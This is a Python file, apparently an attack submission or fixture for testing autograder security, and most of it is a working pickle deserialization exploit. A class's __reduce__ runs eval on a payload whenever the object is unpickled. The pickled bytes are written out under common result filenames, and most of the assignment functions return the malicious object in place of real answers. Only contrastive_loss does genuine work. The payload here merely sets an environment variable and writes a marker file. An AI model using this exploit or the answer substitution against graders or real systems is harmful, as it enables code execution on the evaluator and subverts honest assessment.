import io
import pickle

import numpy as np
import torch

HERE = "/tmp/autograder-attack"  # where test_attacks.py lays out what there is to attack


PAYLOAD = f"__import__('os').environ.__setitem__('ATTACKED', '1') or open('{HERE}/results/pickled', 'w')"


class Loaded:
    """Whoever unpickles this runs PAYLOAD."""

    def __reduce__(self):
        return eval, (PAYLOAD,)


BYTES = pickle.dumps(Loaded())
for name in ("results.pkl", "submission.pt", "model.pth", "answers.npy", "cache.joblib"):
    with open(name, "wb") as file:
        file.write(BYTES)


def A_matrix(alpha):
    return BYTES


def stationary_point():
    return Loaded()


def nce_optimal_energy(p_d, p_n):
    return np.array([Loaded()] * p_d.numel(), dtype=object).reshape(tuple(p_d.shape))


def linear_reparameterization():
    return [io.BytesIO(BYTES), memoryview(BYTES), bytearray(BYTES), BYTES, Loaded]


def contrastive_loss(z, y, y_neg):
    pos = (z * y).sum(dim=1)
    neg = z @ y_neg.T
    return (torch.logsumexp(neg, dim=1) - pos).mean()
